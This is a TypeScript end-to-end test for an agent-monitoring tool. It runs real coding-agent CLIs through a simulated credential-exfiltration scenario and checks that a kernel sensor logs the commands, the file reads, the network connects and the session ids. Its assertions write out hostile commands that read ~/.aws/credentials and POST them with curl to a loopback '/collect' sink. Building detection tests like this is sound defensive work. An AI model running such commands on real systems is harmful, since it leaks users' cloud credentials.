// End to end with the REAL agent CLIs (../shared/agent-sim, cred-exfil scenario) under
// `agentwarden run`: the kernel sensor must show each shell command's full argv, the reads
// of ~/.aws/credentials by cat and curl with ancestry up to the agent, the connect to the
// loopback sink and the write of SETUP_NOTES.md, with the agent's kind and its own session
// id, and zero drops.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { describe, it, after } from 'node:test';
import type { AwEvent } from '../../schema/index.js';
import { agentBin, agentSimRunner, agentSkipReason, runCli, sharedDir, type AgentName } from '../../testing/index.js';
import { sensorUnavailableReason } from './sensor.js';

const sensorSkip = sensorUnavailableReason();
const KIND: Record<AgentName, string> = { claude: 'claude-code', codex: 'codex', gemini: 'gemini-cli' };

/** The agent's own session id, from its machine-readable stdout. */
function ownSessionId(agent: AgentName, runDir: string): string | undefined {
  for (const line of readFileSync(join(runDir, 'agent-stdout.jsonl'), 'utf8').split('\n')) {
    if (!line.startsWith('{')) continue;
    const j = JSON.parse(line) as { session_id?: string; thread_id?: string };
    const id = agent === 'codex' ? j.thread_id : j.session_id;
    if (id) return id;
  }
  return undefined;
}

describe('real agents under agentwarden run (cred-exfil)', { timeout: 600_000 }, () => {
  const dirs: string[] = [];
  after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  for (const agent of ['claude', 'codex', 'gemini'] as AgentName[]) {
    it(`${agent}: argv, credential reads with ancestry, sink connect, workspace write, own session id, zero drops`, { skip: sensorSkip ?? agentSkipReason(agent) }, () => {
      const dir = mkdtempSync(join(tmpdir(), `aw-e2e-${agent}-`));
      dirs.push(dir);
      const home = join(dir, 'aw');
      const runDir = join(dir, 'run');
      const r = runCli(
        ['--store', home, 'run', '--json', '--quiet', '--', process.execPath, agentSimRunner()!, '--agent', agent, '--scenario', sharedDir('agent-sim', 'examples', 'cred-exfil.json'), '--bin', agentBin(agent)!, '--out', runDir],
        { timeoutMs: 300_000 },
      );
      assert.equal(r.code, 0, `run-agent failed: ${r.stderr.slice(-2000)}`);
      const summary = JSON.parse(r.stdout.trim().split('\n').filter((l) => l.startsWith('{"summary"')).pop()!).summary;
      assert.deepEqual(summary.drops, {}, 'zero drops');
      const events = runCli(['--store', home, 'events', '--json'], { timeoutMs: 120_000 })
        .stdout.trim()
        .split('\n')
        .map((l) => JSON.parse(l) as AwEvent);
      assert.equal(events.length, summary.stored);
      assert.equal(events.filter((e) => e.kind === 'sensor.drop').length, 0);

      const own = ownSessionId(agent, runDir);
      assert.ok(own, 'the agent reported its session id');
      const mine = events.filter((e) => e.session?.id === own);
      assert.ok(mine.length > 50, `events carry the agent's own session id ${own}`);
      assert.ok(mine.every((e) => e.session?.agent.kind === KIND[agent]));
      const rootPid = mine[0].session!.root_pid!;
      const credPath = join(runDir, 'home', '.aws', 'credentials');
      const execs = mine.filter((e) => e.kind === 'process.exec');
      const argvText = (e: AwEvent) => (e.process?.argv ?? []).join(' ');

      // the shell commands the agent ran, with their full argv
      assert.ok(execs.some((e) => argvText(e).includes('cat ~/.aws/credentials')), 'shell exec of cat ~/.aws/credentials');
      const curlShell = execs.find((e) => argvText(e).includes('curl -s -m 5 -X POST --data-binary @$HOME/.aws/credentials http://127.0.0.1:'));
      assert.ok(curlShell, 'shell exec of the curl command');
      assert.deepEqual(execs.find((e) => basename(e.process?.exe ?? '') === 'cat' && e.process?.argv?.[1] === credPath)?.process?.argv, ['cat', credPath]);
      const curl = execs.find((e) => basename(e.process?.exe ?? '') === 'curl');
      const url = curl?.process?.argv?.find((a) => a.startsWith('http://127.0.0.1:'));
      assert.ok(url?.endsWith('/collect'));
      assert.deepEqual(curl?.process?.argv, ['curl', '-s', '-m', '5', '-X', 'POST', '--data-binary', `@${credPath}`, url]);

      // reads of the credentials by cat and curl, ancestry up to the agent root
      for (const tool of ['cat', 'curl']) {
        const rd = mine.find((e) => e.kind === 'file.open' && e.file?.path === credPath && basename(e.process?.exe ?? '') === tool);
        assert.ok(rd, `${tool} read ${credPath}`);
        assert.deepEqual(rd.file?.intent, ['read']);
        assert.equal(rd.attributes?.sensitive, 'cloud_credentials');
        const anc = rd.process!.ancestry!;
        assert.equal(anc[anc.length - 1].pid, rootPid, `${tool}: ancestry reaches the agent root`);
        assert.equal(rd.process!.depth, anc.length);
      }
      // the connect to the loopback sink
      const port = Number(new URL(url!).port);
      assert.ok(mine.some((e) => e.kind === 'network.connect' && e.network?.dst_ip === '127.0.0.1' && e.network.dst_port === port && basename(e.process?.exe ?? '') === 'curl'));
      // the workspace write
      const notes = join(runDir, 'ws', 'SETUP_NOTES.md');
      assert.ok(
        mine.some((e) => (e.kind === 'file.open' && e.file?.path === notes && e.file.intent?.includes('write')) || (e.kind === 'file.rename' && e.file?.target_path === notes)),
        'SETUP_NOTES.md written in the agent session',
      );
      // the session listing names the agent with its version
      const sess = summary.sessions.find((s: { id: string }) => s.id === own);
      assert.equal(sess.agent.kind, KIND[agent]);
      assert.match(sess.agent.version, /^\d+\.\d+\.\d+/);
    });
  }
});
